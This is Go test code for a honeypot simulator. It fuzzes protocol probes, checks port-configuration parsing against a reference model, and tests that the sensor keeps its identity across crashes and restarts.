		// TLS record (handshake) with a ClientHello: version, random, session id, suites, compression, extensions
		ver := []uint16{0x0300, 0x0301, 0x0302, 0x0303, 0x0304, 0x0002, 0x8001, 0x7f12}[r.Intn(8)]
		body := []byte{byte(ver >> 8), byte(ver)}
		body = append(body, r.Bytes(32)...)
		sid := r.Bytes([]int{0, 32}[r.Intn(2)])
		body = append(body, byte(len(sid)))
		body = append(body, sid...)
		ns := r.Range(1, 20)
		body = append(body, byte(ns*2>>8), byte(ns*2))
		body = append(body, r.Bytes(ns*2)...)
		body = append(body, 1, 0)
		ext := r.Bytes(r.Range(0, 200))
		body = append(body, byte(len(ext)>>8), byte(len(ext)))
		body = append(body, ext...)
		hs := append([]byte{1, byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}, body...)
		ct := byte(0x16)
		if r.Chance(0.15) {
			ct = []byte{0x14, 0x15, 0x17, 0x80, 0x00}[r.Intn(5)]
		}
		b = append([]byte{ct, 3, byte(r.Intn(4)), byte(len(hs) >> 8), byte(len(hs))}, hs...)
	case 445, 139:
		magic := [][]byte{{0xfe, 'S', 'M', 'B'}, {0xff, 'S', 'M', 'B'}, {0xfd, 'S', 'M', 'B'}}[r.Intn(3)]
		hdr := append([]byte(nil), magic...)
		hdr = append(hdr, 64, 0, 0, 0)           // structure size, credit charge
		hdr = append(hdr, r.Bytes(4)...)         // status
		hdr = append(hdr, byte(r.Intn(0x14)), 0) // opcode
		hdr = append(hdr, r.Bytes(r.Range(0, 120))...)
		if r.Chance(0.6) {
			// NetBIOS session service framing in front (what really arrives on 445/139)
			hdr = append([]byte{0, 0, byte(len(hdr) >> 8), byte(len(hdr))}, hdr...)
		}
		if dport == 139 && r.Chance(0.5) {
			hdr = append([]byte{0x81, 0, 0, 68}, r.Bytes(68)...) // session request
		}
		b = hdr
	case 1433:
		// TDS pre-login
		pl := r.Bytes(r.Range(0, 80))
		n := 8 + len(pl)
		b = append([]byte{0x12, 1, byte(n >> 8), byte(n), 0, 0, byte(r.Intn(3)), 0}, pl...)
	case 23:
		b = append([]byte{0xff, 0xfd, 0x18, 0xff, 0xfb, 0x1f}, []byte("root\r\n"+r.word(0, 12)+"\r\n")...)
	case 6379:
		b = []byte("*2\r\n$3\r\nGET\r\n$" + fmt.Sprint(r.Range(0, 9)) + "\r\n" + r.word(0, 9) + "\r\n")
	default:
		return nil
	}
	switch r.Intn(6) {
	case 0: // cut short anywhere
		if len(b) > 1 {
			b = b[:r.Range(1, len(b)-1)]
		}
	case 1: // one byte flipped
		b[r.Intn(len(b))] ^= byte(1 << uint(r.Intn(8)))
	}
	return b
}
