package htsim

import (
	"encoding/json"
	"fmt"
	"net"
	"sort"
	"strconv"
	"strings"
	"testing"
)

// C19 — exactly the well-formed port entries that name a service are listened on.
//
// Configuration-space exploration hosted by the simulator: generated [[port]] tables are booted
// through the real Run(); the simulated kernel's listen table is the observation, a reference model
// of the statement the oracle; then probe connections check reachability.

func init() {
	engines["C19"] = &Engine{Gen: genC19, Run: runC19}
}

type c19Entry struct {
	Port     string   `json:"port,omitempty"`
	Ports    []string `json:"ports,omitempty"`
	HasPorts bool     `json:"has_ports,omitempty"`
	Services []string `json:"services"`
}

type c19Params struct {
	Entries []c19Entry `json:"entries"`
	Defined []string   `json:"defined"` // service names that exist with a known type
	BadType []string   `json:"badtype"` // service names configured with an unknown type
}

var c19Valid = []string{"tcp/8000", "udp/8000", "tcp/8001", "udp/8001", "tcp/192.0.2.1:8000", "tcp/192.0.2.2:8000",
	"udp/192.0.2.1:8001", "udp/192.0.2.2:8001", "udp/192.0.2.1:8000", "tcp/[2001:db8::1]:8000", "tcp/65535", "udp/65535", "tcp/:8002", "tcp/1", "tcp/192.0.2.1:8001", "tcp/0", "udp/0"}
var c19Bad = []string{"8000", "tcp/8000/x", "sctp/8000", "tcp/65536", "tcp/-1", "tcp/", "/8000", "tcp/abc", "TCP/8000",
	"tcp/ 8000", "udp/70000", "tcp/192.0.2.1:", "tcp/192.0.2.1:99999", "tcp:8000", "tcp/8000 ", "icmp/1", "tcp/0x50", "tcp/+80"}

func genC19(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c19")
	var p c19Params
	sc := &Scenario{Engine: "c19"}
	var cfg strings.Builder
	cfg.WriteString(baseConfig)
	// exhaustive parser sweep: 64 consecutive port numbers per scenario (thorough covers all 65,536)
	sweepEvery := 8
	if tier == "thorough" {
		sweepEvery = 2
	}
	if idx%sweepEvery == 0 {
		chunk := (idx / sweepEvery) % 1025
		p.Defined = []string{"s0"}
		cfg.WriteString("\n[service.s0]\ntype=\"stub\"\nname=\"s0\"\n")
		proto := "tcp"
		if (idx/sweepEvery/1025)%2 == 1 {
			proto = "udp"
		}
		var e c19Entry
		e.HasPorts = true
		for k := 0; k < 64; k++ {
			e.Ports = append(e.Ports, fmt.Sprintf("%s/%d", proto, chunk*64+k))
		}
		e.Services = []string{"s0"}
		p.Entries = []c19Entry{e}
		sc.Class = "sweep"
	} else {
		nd := r.Range(1, 3)
		for i := 0; i < nd; i++ {
			n := fmt.Sprintf("s%d", i)
			p.Defined = append(p.Defined, n)
			fmt.Fprintf(&cfg, "\n[service.%s]\ntype=\"stub\"\nname=%s\n", n, tomlStr(n))
		}
		if r.Chance(0.3) {
			p.BadType = []string{"sbad"}
			cfg.WriteString("\n[service.sbad]\ntype=\"nosuchtype\"\n")
		}
		names := append(append([]string{}, p.Defined...), "nosuch", "sbad", "S0")
		ne := r.Range(1, 4)
		pick := func() string {
			if r.Chance(0.3) {
				return r.Pick(c19Bad)
			}
			// few distinct values so that duplicates and compatible addresses occur
			return r.Pick(c19Valid[:10+r.Intn(len(c19Valid)-9)])
		}
		for i := 0; i < ne; i++ {
			var e c19Entry
			switch r.Intn(6) {
			case 0: // ports only
				e.HasPorts = true
				for k := r.Range(0, 3); k > 0; k-- {
					e.Ports = append(e.Ports, pick())
				}
			case 1: // both
				e.HasPorts = true
				for k := r.Range(0, 2); k > 0; k-- {
					e.Ports = append(e.Ports, pick())
				}
				e.Port = pick()
			case 2: // neither
			default:
				e.Port = pick()
			}
			for k := r.Range(0, 3); k > 0; k-- {
				e.Services = append(e.Services, r.Pick(names))
			}
			p.Entries = append(p.Entries, e)
		}
		sc.Class = fmt.Sprintf("table entries=%d", ne)
	}
	for _, e := range p.Entries {
		cfg.WriteString("\n[[port]]\n")
		if e.Port != "" {
			fmt.Fprintf(&cfg, "port=%s\n", tomlStr(e.Port))
		}
		if e.HasPorts {
			var q []string
			for _, s := range e.Ports {
				q = append(q, tomlStr(s))
			}
			fmt.Fprintf(&cfg, "ports=[%s]\n", strings.Join(q, ","))
		}
		var q []string
		for _, s := range e.Services {
			q = append(q, tomlStr(s))
		}
		fmt.Fprintf(&cfg, "services=[%s]\n", strings.Join(q, ","))
	}
	sc.Config = cfg.String()
	pj, _ := json.Marshal(p)
	var pm map[string]interface{}
	json.Unmarshal(pj, &pm)
	sc.Params = pm
	sc.Schedule = r.Schedule(8)
	sc.DrainMs = 100
	return sc
}

// refParse is the statement's notion of a well-formed entry: protocol/port or protocol/host:port,
// protocol tcp or udp, port 0..65535 (decimal digits), host an IP literal (names are not generated).
func refParse(s string) (proto, ip string, port int, ok bool) {
	parts := strings.Split(s, "/")
	if len(parts) != 2 {
		return
	}
	proto = parts[0]
	if proto != "tcp" && proto != "udp" {
		return
	}
	rest := parts[1]
	host, ps := "", rest
	if h, p, err := net.SplitHostPort(rest); err == nil {
		host, ps = h, p
	}
	if ps == "" {
		return
	}
	for _, c := range ps {
		if c < '0' || c > '9' {
			return
		}
	}
	n, err := strconv.Atoi(ps)
	if err != nil || n < 0 || n > 65535 {
		return
	}
	if host != "" {
		pip := net.ParseIP(host)
		if pip == nil {
			return
		}
		ip = pip.String()
	}
	return proto, ip, n, true
}

type c19Listen struct {
	Proto, IP string
	Port      int
	Services  []string
}

func c19Reference(p *c19Params) []c19Listen {
	defined := map[string]bool{}
	for _, d := range p.Defined {
		defined[d] = true
	}
	var out []c19Listen
	for _, e := range p.Entries {
		var ports []string
		if e.HasPorts {
			ports = append(ports, e.Ports...)
		}
		if e.Port != "" {
			ports = append(ports, e.Port)
		}
		for _, ps := range ports {
			proto, ip, port, ok := refParse(ps)
			if !ok {
				continue
			}
			var svcs []string
			for _, s := range e.Services {
				if defined[s] {
					svcs = append(svcs, s)
				}
			}
			if len(svcs) == 0 {
				continue
			}
			dup := false
			for _, o := range out {
				if o.Proto == proto && o.Port == port && (o.IP == "" || ip == "" || o.IP == ip) {
					dup = true
				}
			}
			if dup {
				continue
			}
			out = append(out, c19Listen{proto, ip, port, svcs})
		}
	}
	return out
}

func listenKey(proto, ip string, port int) string {
	if port == 0 {
		return proto + " ephemeral"
	}
	return fmt.Sprintf("%s %s", proto, net.JoinHostPort(ip, strconv.Itoa(port)))
}

func runC19(t *testing.T, sc *Scenario) Result {
	res := okResult()
	stubHub.reset()
	var p c19Params
	b, _ := json.Marshal(sc.Params)
	json.Unmarshal(b, &p)
	ref := c19Reference(&p)
	var probes []Actor
	obs := RunScenario(t, sc, func(w *World) {
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		w.Obs.Listening = w.Net.TCPListeners()
		w.Obs.UDPSocks = w.Net.UDPSockets()
		// probes: every listened address plus unlistened ones from a small universe
		seen := map[string]bool{}
		add := func(kind, dst string) {
			if seen[kind+dst] || len(probes) >= 30 {
				return
			}
			seen[kind+dst] = true
			a := Actor{Kind: kind, Src: clientAddr(len(probes)), Dst: dst, Ops: []Op{SendOp([]byte("probe"), nil, "")}}
			if kind == "tcp" {
				a.Ops = append(a.Ops, Op{K: "close"})
			}
			probes = append(probes, a)
		}
		for _, l := range ref {
			ip := l.IP
			if ip == "" {
				ip = sensorIP
			}
			if l.Port != 0 {
				add(l.Proto, net.JoinHostPort(ip, strconv.Itoa(l.Port)))
			}
		}
		for _, u := range []string{"192.0.2.1:8000", "192.0.2.2:8000", "192.0.2.3:8000", "192.0.2.1:8001", "192.0.2.2:8001", "192.0.2.3:8001", "192.0.2.1:8002", "192.0.2.1:65535", "192.0.2.1:1"} {
			add("tcp", u)
			add("udp", u)
		}
		w.Sc = sc.Clone()
		w.Sc.Actors = probes
		w.Play()
		w.Drain()
	})
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(p.Entries) > 1 || len(p.Entries[0].Ports) > 1
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	// 1. listen set
	want := map[string]int{}
	for _, l := range ref {
		want[listenKey(l.Proto, l.IP, l.Port)]++
	}
	got := map[string]int{}
	for _, s := range obs.Listening {
		h, ps, _ := net.SplitHostPort(s)
		pn, _ := strconv.Atoi(ps)
		if pn >= 40000 && pn < 65535 && want[listenKey("tcp", h, pn)] == 0 {
			pn = 0
		}
		got[listenKey("tcp", h, pn)]++
	}
	for _, s := range obs.UDPSocks {
		h, ps, _ := net.SplitHostPort(s)
		if h == "::" {
			h = "" // a wildcard udp socket reports [::] as its local address
		}
		pn, _ := strconv.Atoi(ps)
		if pn >= 40000 && pn < 65535 && want[listenKey("udp", h, pn)] == 0 {
			pn = 0
		}
		got[listenKey("udp", h, pn)]++
	}
	var keys []string
	for k := range want {
		keys = append(keys, k)
	}
	for k := range got {
		if _, ok := want[k]; !ok {
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	for _, k := range keys {
		if want[k] != got[k] {
			kind := "listen-missing"
			if got[k] > want[k] {
				kind = "listen-unexpected"
			}
			res.Violate(kind, sc.Class[:5], fmt.Sprintf("%s: listened %d times, the statement requires %d; listening tcp=%v udp=%v; entries=%s", k, got[k], want[k], obs.Listening, obs.UDPSocks, short(string(b), 600)))
			return res
		}
	}
	res.probe("listened", len(ref))
	// 2. reachability
	calls := stubHub.snapshot()
	for ai := range probes {
		a := &probes[ai]
		var mine []stubCall
		for _, c := range calls {
			if c.Remote == a.Src {
				mine = append(mine, c)
			}
		}
		var entry *c19Listen
		for i := range ref {
			l := &ref[i]
			if l.Proto == a.Kind && l.Port == portOf(a.Dst) && l.Port != 0 && (l.IP == "" || l.IP == hostOf(a.Dst)) {
				entry = l
				break
			}
		}
		if entry == nil {
			res.probe("probe-unlistened", 1)
			if len(mine) > 0 {
				res.Violate("unlistened-port-served", a.Kind, fmt.Sprintf("probe %s %s reached stub %s although no entry covers it", a.Kind, a.Dst, mine[0].Name))
				return res
			}
			if a.Kind == "tcp" && !obs.Conns[ai].Refused {
				res.Violate("unlistened-port-accepted", a.Kind, fmt.Sprintf("probe tcp %s was accepted although no entry covers it", a.Dst))
				return res
			}
			continue
		}
		res.probe("probe-listened", 1)
		if len(mine) != 1 {
			res.Violate("listened-port-not-served", a.Kind, fmt.Sprintf("probe %s %s: %d stub invocations, expected 1 (services %v)", a.Kind, a.Dst, len(mine), entry.Services))
			return res
		}
		// all stubs are detector-less: the first listed defined service must be the one
		if mine[0].Name != entry.Services[0] {
			res.Violate("wrong-service-for-entry", a.Kind, fmt.Sprintf("probe %s %s reached %s, entry lists %v", a.Kind, a.Dst, mine[0].Name, entry.Services))
			return res
		}
	}
	return res
}
