package htsim

import (
	"bufio"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"testing/cryptotest"
	"testing/synctest"
	"time"

	"github.com/honeytrap/honeytrap/listener/agent"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services"
	"golang.org/x/crypto/ssh"

	"htsim/simnet"
)

// C18 — sensor identity survives restarts and interrupted first starts (fault enumeration).
//
// A boot is a separate OS process (badger and the storage package are process globals): phase A, outside
// any bubble, is the real start-up path (server.New with WithDataDir/WithToken, the registered
// constructors of the enabled storage-backed services, the agent key pair) with named crash points
// armed from the scenario; phase B boots Run in a bubble and observes the identity through the public
// surface (token on an event, SSH host key seen by a real ssh client, certificates presented after
// AUTH TLS / STARTTLS / StartTLS).  Only the data directory survives between boots.

func init() {
	engines["C18"] = &Engine{Gen: genC18, Run: runC18}
}

type c18BootSpec struct {
	Services []string `json:"services"`
	CrashAt  string   `json:"crash_at,omitempty"`
	Token    string   `json:"token,omitempty"` // state planted before this boot: "", absent, empty, prefix:N
	// Overlap: while this boot is up (its store open), a second honeytrap is started on the same data directory -
	// an overlapping restart, or a second instance started by mistake.  The second one may refuse to start; the
	// identity must be what it was, now and at every later boot.
	Overlap bool `json:"overlap,omitempty"`
}

type c18Report struct {
	T        string            `json:"t"`
	Crashed  bool              `json:"crashed,omitempty"`
	ExitCode int               `json:"exit_code,omitempty"`
	Identity map[string]string `json:"identity,omitempty"`
	Err      string            `json:"err,omitempty"`
}

var c18Svcs = []string{"ssh", "ftp", "smtp", "ldap", "agent"}

var c18CrashPoints = []string{
	"token:before-create", "token:created-empty", "token:written",
	"token:before-open", "token:after-open", "token:before-rename", "token:after-rename",
	"ssh:before-set:private-key", "ssh:after-set:private-key",
	"ftp:before-set:pemkey", "ftp:after-set:pemkey", "ftp:before-set:pemcert", "ftp:after-set:pemcert",
	"smtp:before-set:pemkey", "smtp:after-set:pemkey", "smtp:before-set:pemcert", "smtp:after-set:pemcert",
	"ldap:before-set:pemkey", "ldap:after-set:pemkey", "ldap:before-set:pemcert", "ldap:after-set:pemcert",
	"agent:before-set:key", "agent:after-set:key",
}

func genC18(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c18")
	sc := &Scenario{Engine: "c18", Params: map[string]interface{}{}}
	n := r.Range(2, 5)
	if tier != "thorough" {
		n = r.Range(2, 3)
	}
	var hist []c18BootSpec
	class := "restarts"
	// exhaustive product in thorough: crash point x history shape; sampled otherwise
	crashIdx := -1
	if idx%2 == 0 {
		crashIdx = (idx / 2) % len(c18CrashPoints)
		class = "crash:" + c18CrashPoints[crashIdx]
	} else if idx%4 == 1 {
		class = "token-file-state"
	}
	for b := 0; b < n; b++ {
		var bs c18BootSpec
		for _, s := range c18Svcs {
			if r.Chance(0.6) {
				bs.Services = append(bs.Services, s)
			}
		}
		if b == 0 && crashIdx >= 0 {
			cp := c18CrashPoints[crashIdx]
			bs.CrashAt = cp
			svc := strings.SplitN(cp, ":", 2)[0]
			if svc != "token" {
				// the crash point is reached only if that service is enabled
				has := false
				for _, s := range bs.Services {
					if s == svc {
						has = true
					}
				}
				if !has {
					bs.Services = append(bs.Services, svc)
				}
			}
		}
		if class == "token-file-state" && b == 1 {
			bs.Token = []string{"absent", "empty", fmt.Sprintf("prefix:%d", r.Range(1, 19)), "prefix:1", "prefix:19"}[r.Intn(5)]
		}
		// later boots enable what earlier boots had, so that stability is observable
		if b > 0 && r.Chance(0.7) {
			bs.Services = append([]string(nil), hist[0].Services...)
		}
		if b > 0 && bs.CrashAt == "" && bs.Token == "" && b < n-1 && r.Chance(0.3) {
			bs.Overlap = true // a second instance is started beside this (completed, running) boot
		}
		hist = append(hist, bs)
	}
	hj, _ := json.Marshal(hist)
	var hl []interface{}
	json.Unmarshal(hj, &hl)
	sc.Params["history"] = hl
	sc.Class = class
	return sc
}

var xidRe = regexp.MustCompile(`^[0-9a-v]{20}$`)

func runC18(t *testing.T, sc *Scenario) Result {
	res := okResult()
	var hist []c18BootSpec
	b, _ := json.Marshal(sc.Params["history"])
	json.Unmarshal(b, &hist)
	dir, err := os.MkdirTemp("", "htsim-c18-")
	if err != nil {
		res.Violate("infra", "tempdir", err.Error())
		return res
	}
	defer os.RemoveAll(dir)
	c18RandBase = sc.Seed
	c18BootNo.Store(0)
	first := map[string]string{} // item -> identity first reported by a completed boot
	firstBoot := map[string]int{}
	var trace []string
	crashes := 0
	for bi, bs := range hist {
		tokPath := filepath.Join(dir, "token")
		switch {
		case bs.Token == "absent":
			os.Remove(tokPath)
			delete(first, "token") // the identity was removed from the disk by an operator, not by honeytrap
		case bs.Token == "empty":
			os.WriteFile(tokPath, nil, 0600)
			delete(first, "token")
		case strings.HasPrefix(bs.Token, "prefix:"):
			var k int
			fmt.Sscanf(bs.Token, "prefix:%d", &k)
			if cur, err := os.ReadFile(tokPath); err == nil && len(cur) >= k {
				os.WriteFile(tokPath, cur[:k], 0600)
			} else {
				os.WriteFile(tokPath, []byte("b9m3n0e7k2a1c5d8f4g6"[:k]), 0600)
			}
			delete(first, "token")
		}
		var rep c18Report
		if bs.Overlap {
			var second c18Report
			rep, second = c18RunOverlapped(dir, bs)
			res.fault("second-instance-started-beside-a-running-one", 1)
			if second.Err == "" && second.Identity != nil {
				// the second instance came up as well: it is the same sensor
				for item, v := range second.Identity {
					if strings.HasPrefix(v, "error:") {
						continue
					}
					if old, ok := first[item]; ok && old != v {
						res.Violate("identity-changed", item, fmt.Sprintf("a second instance started beside boot %d reports %s = %s, boot %d reported %s", bi, item, short(v, 60), firstBoot[item], short(old, 60)))
						return res
					}
				}
			}
		} else {
			rep = c18RunBoot(dir, bs)
		}
		res.Runs++
		trace = append(trace, fmt.Sprintf("boot%d services=%v crash=%q token=%q -> crashed=%v err=%q", bi, bs.Services, bs.CrashAt, bs.Token, rep.Crashed, rep.Err))
		if rep.Crashed {
			crashes++
			res.fault("crash:"+bs.CrashAt, 1)
			continue
		}
		if bs.Token != "" {
			res.fault("token-file:"+strings.SplitN(bs.Token, ":", 2)[0], 1)
		}
		if rep.Err != "" {
			if strings.HasPrefix(rep.Err, "infra:") {
				res.Violate("infra", "boot", rep.Err)
				return res
			}
			res.Violate("boot-does-not-come-up", "start-up", fmt.Sprintf("boot %d (%s) after %v did not complete: %s", bi, strings.Join(bs.Services, ","), trace, rep.Err))
			return res
		}
		var items []string
		for k := range rep.Identity {
			items = append(items, k)
		}
		sort.Strings(items)
		for _, item := range items {
			v := rep.Identity[item]
			if item == "token" {
				if !xidRe.MatchString(v) {
					res.Violate("token-malformed", "token", fmt.Sprintf("boot %d reports token %q (want 20 characters of the xid alphabet); history: %v", bi, v, trace))
					return res
				}
			} else if v == "" || strings.HasPrefix(v, "error:") {
				res.Violate("identity-item-unavailable", item, fmt.Sprintf("boot %d: %s could not be observed: %q; history: %v", bi, item, v, trace))
				return res
			}
			if old, ok := first[item]; ok && old != v {
				res.Violate("identity-changed", item, fmt.Sprintf("%s was %s at boot %d and is %s at boot %d; history: %v", item, short(old, 24), firstBoot[item], short(v, 24), bi, trace))
				return res
			} else if !ok {
				first[item] = v
				firstBoot[item] = bi
			}
			res.probe("identity-items-compared", 1)
		}
	}
	h := sha256.Sum256([]byte(strings.Join(trace, "\n")))
	res.Digest = hex.EncodeToString(h[:])[:16]
	res.Nontriv = crashes > 0 || len(hist) > 2 || sc.Class == "token-file-state"
	res.Steps = len(hist)
	return res
}

// c18RunOverlapped starts the boot, waits until it is up, runs a second complete boot attempt on the same directory
// beside it, and returns the first boot's report (the second one's is returned as well: it may have refused to start).
func c18RunOverlapped(dir string, bs c18BootSpec) (c18Report, c18Report) {
	type r struct{ rep c18Report }
	first := make(chan c18Report, 1)
	upFile, err := os.CreateTemp("", "htsim-c18-up-")
	if err != nil {
		return c18Report{Err: "infra: " + err.Error()}, c18Report{}
	}
	upFile.Close()
	defer os.Remove(upFile.Name())
	go func() {
		first <- c18RunBootEnv(dir, bs, []string{"VERIF_BOOT_HOLD_MS=4000", "VERIF_BOOT_UP_FILE=" + upFile.Name()})
	}()
	// wait for the "up" mark (the first instance holds the store)
	deadline := time.Now().Add(120 * time.Second)
	for time.Now().Before(deadline) {
		if b, _ := os.ReadFile(upFile.Name()); len(b) > 0 {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	second := c18RunBootEnv(dir, c18BootSpec{Services: bs.Services}, nil)
	return <-first, second
}

func c18RunBoot(dir string, bs c18BootSpec) c18Report {
	return c18RunBootEnv(dir, bs, nil)
}

// c18RandBase/c18BootNo: every boot process of a history draws its key material (host keys, certificates, the
// sensor id) from a generator seeded with the scenario's seed and the boot's number in the history, so that a
// violation that depends on the bytes of a generated key replays.
var (
	c18RandBase uint64
	c18BootNo   atomic.Uint64
)

func c18RunBootEnv(dir string, bs c18BootSpec, extraEnv []string) c18Report {
	extraEnv = append(extraEnv[:len(extraEnv):len(extraEnv)], fmt.Sprintf("VERIF_BOOT_RAND=%d", c18RandBase^(c18BootNo.Add(1)*0x9e3779b97f4a7c15)))
	out, err := os.CreateTemp("", "htsim-c18-out-")
	if err != nil {
		return c18Report{Err: "infra: " + err.Error()}
	}
	out.Close()
	defer os.Remove(out.Name())
	cmd := exec.Command(os.Args[0], "-test.run", "^TestWorker$", "-test.timeout", "0")
	cmd.Env = append(os.Environ(),
		"VERIF_PROP=C18BOOT", "VERIF_BOOT_DIR="+dir, "VERIF_BOOT_SERVICES="+strings.Join(bs.Services, ","),
		"VERIF_CRASH_AT="+bs.CrashAt, "VERIF_OUT="+out.Name(), "VERIF_SCENARIO=", "VERIF_SEEDS=")
	cmd.Env = append(cmd.Env, extraEnv...)
	cmd.Stdout, cmd.Stderr = nil, nil
	done := make(chan error, 1)
	if err := cmd.Start(); err != nil {
		return c18Report{Err: "infra: " + err.Error()}
	}
	go func() { done <- cmd.Wait() }()
	select {
	case err = <-done:
	case <-time.After(300 * time.Second):
		cmd.Process.Kill()
		return c18Report{Err: "boot process still running after 300 s"}
	}
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	}
	if code == 137 && bs.CrashAt != "" {
		return c18Report{Crashed: true, ExitCode: code}
	}
	data, _ := os.ReadFile(out.Name())
	var rep c18Report
	found := false
	for _, l := range strings.Split(string(data), "\n") {
		var r c18Report
		if json.Unmarshal([]byte(l), &r) == nil && r.T == "identity" {
			rep = r
			found = true
		}
	}
	if !found {
		return c18Report{Err: fmt.Sprintf("boot process exited with code %d without reporting an identity", code), ExitCode: code}
	}
	return rep
}

// ---------------------------------------------------------------------------------------------
// the boot child

func fp(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])[:32]
}

func c18Config(svcs []string) string {
	var b strings.Builder
	b.WriteString(baseConfig)
	for _, s := range svcs {
		switch s {
		case "ssh":
			b.WriteString("\n[service.ssh]\ntype=\"ssh-simulator\"\n\n[[port]]\nport=\"tcp/22\"\nservices=[\"ssh\"]\n")
		case "ftp":
			b.WriteString("\n[service.ftp]\ntype=\"ftp\"\nfs_base=\"@TMP@\"\n\n[[port]]\nport=\"tcp/21\"\nservices=[\"ftp\"]\n")
		case "smtp":
			b.WriteString("\n[service.smtp]\ntype=\"smtp\"\n\n[[port]]\nport=\"tcp/25\"\nservices=[\"smtp\"]\n")
		case "ldap":
			b.WriteString("\n[service.ldap]\ntype=\"ldap\"\n\n[[port]]\nport=\"tcp/389\"\nservices=[\"ldap\"]\n")
		}
	}
	return b.String()
}

// c18Boot runs in the child process.
func c18Boot(t *testing.T, emit func(interface{})) {
	dir := os.Getenv("VERIF_BOOT_DIR")
	var svcs []string
	for _, s := range strings.Split(os.Getenv("VERIF_BOOT_SERVICES"), ",") {
		if s != "" {
			svcs = append(svcs, s)
		}
	}
	installSeams()
	if v, err := strconv.ParseUint(os.Getenv("VERIF_BOOT_RAND"), 10, 64); err == nil {
		cryptotest.SetGlobalRandom(t, v)
	}
	id := map[string]string{}
	fail := func(msg string) {
		emit(c18Report{T: "identity", Err: msg})
	}
	// ---- phase A: the real start-up path, outside any bubble
	cfg := c18Config(svcs)
	tmp := t.TempDir()
	cfgPath := filepath.Join(tmp, "config.toml")
	os.WriteFile(cfgPath, []byte(strings.ReplaceAll(cfg, "@TMP@", tmp)), 0644)
	cfgOpt, err := server.WithConfig(cfgPath)
	if err != nil {
		fail("infra: " + err.Error())
		return
	}
	ddOpt, err := server.WithDataDir(dir)
	if err != nil {
		fail("infra: " + err.Error())
		return
	}
	if _, err := server.New(cfgOpt, ddOpt, server.WithToken()); err != nil {
		fail("server.New: " + err.Error())
		return
	}
	for _, s := range svcs {
		typ := map[string]string{"ssh": "ssh-simulator", "ftp": "ftp", "smtp": "smtp", "ldap": "ldap"}[s]
		if typ == "" {
			continue
		}
		if fn, ok := services.Get(typ); ok {
			func() {
				defer func() {
					if r := recover(); r != nil {
						id[s] = fmt.Sprintf("error: constructor panicked: %v", r)
					}
				}()
				fn()
			}()
		}
	}
	for _, s := range svcs {
		if s == "agent" {
			st, err := agent.Storage()
			if err != nil {
				id["agent-key"] = "error: " + err.Error()
				continue
			}
			kp, err := st.KeyPair()
			if err != nil {
				id["agent-key"] = "error: " + err.Error()
				continue
			}
			id["agent-key"] = hex.EncodeToString(kp.PublicKey[:])
		}
	}
	if ms, _ := strconv.Atoi(os.Getenv("VERIF_BOOT_HOLD_MS")); ms > 0 {
		// stay up (store open) while the parent starts a second instance on the same directory
		if f := os.Getenv("VERIF_BOOT_UP_FILE"); f != "" {
			os.WriteFile(f, []byte("up\n"), 0600)
		}
		time.Sleep(time.Duration(ms) * time.Millisecond)
	}
	// ---- phase B: boot Run in a bubble and look at the identity from outside
	dataDir = dir
	sc := &Scenario{Config: cfg, Seed: 1}
	obs := RunScenario(t, sc, func(w *World) {
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		results := map[string]*string{}
		for _, s := range svcs {
			s := s
			if s == "agent" {
				continue
			}
			v := new(string)
			results[s] = v
			go func() { *v = c18Observe(w.Net, s) }()
		}
		synctest.Wait()
		time.Sleep(31 * time.Second) // a heartbeat carries the token
		synctest.Wait()
		for s, v := range results {
			key := map[string]string{"ssh": "ssh-host-key", "ftp": "ftp-cert", "smtp": "smtp-cert", "ldap": "ldap-cert"}[s]
			if _, bad := id[s]; bad {
				id[key] = id[s]
				delete(id, s)
				continue
			}
			id[key] = *v
		}
	})
	if obs.BootErr != "" {
		fail("boot: " + obs.BootErr)
		return
	}
	tok := ""
	for _, e := range obs.Events {
		if v, ok := e.M["token"].(string); ok {
			tok = v
		}
	}
	id["token"] = tok
	emit(c18Report{T: "identity", Identity: id})
}

// c18Observe runs inside the bubble as a client of the booted server.
func c18Observe(n *simnet.Net, svc string) (out string) {
	defer func() {
		if r := recover(); r != nil {
			out = fmt.Sprintf("error: %v", r)
		}
	}()
	port := map[string]int{"ssh": 22, "ftp": 21, "smtp": 25, "ldap": 389}[svc]
	ep, err := n.Connect(mustTCPAddr(fmt.Sprintf("10.77.0.%d:%d", port%250, 40000+port)), mustTCPAddr(fmt.Sprintf("%s:%d", sensorIP, port)))
	if err != nil {
		return "error: " + err.Error()
	}
	defer ep.Close()
	ep.SetDeadline(time.Now().Add(20 * time.Second))
	br := bufio.NewReader(ep)
	readLine := func() string {
		l, _ := br.ReadString('\n')
		return l
	}
	tlsPeer := func() string {
		c := tls.Client(&bufConn{Endpoint: ep, r: br}, &tls.Config{InsecureSkipVerify: true})
		if err := c.Handshake(); err != nil {
			return "error: tls handshake: " + err.Error()
		}
		st := c.ConnectionState()
		if len(st.PeerCertificates) == 0 {
			return "error: no certificate"
		}
		return fp(st.PeerCertificates[0].Raw)
	}
	switch svc {
	case "ssh":
		key := ""
		cfg := &ssh.ClientConfig{User: "probe", Auth: []ssh.AuthMethod{ssh.Password("probe")},
			HostKeyCallback: func(hostname string, remote net.Addr, k ssh.PublicKey) error {
				key = fp(k.Marshal())
				return nil
			}}
		c, _, _, err := ssh.NewClientConn(ep, "sensor:22", cfg)
		if c != nil {
			c.Close()
		}
		if key == "" {
			return fmt.Sprintf("error: no host key seen (%v)", err)
		}
		return key
	case "ftp":
		readLine()
		io.WriteString(ep, "AUTH TLS\r\n")
		if l := readLine(); !strings.HasPrefix(l, "234") {
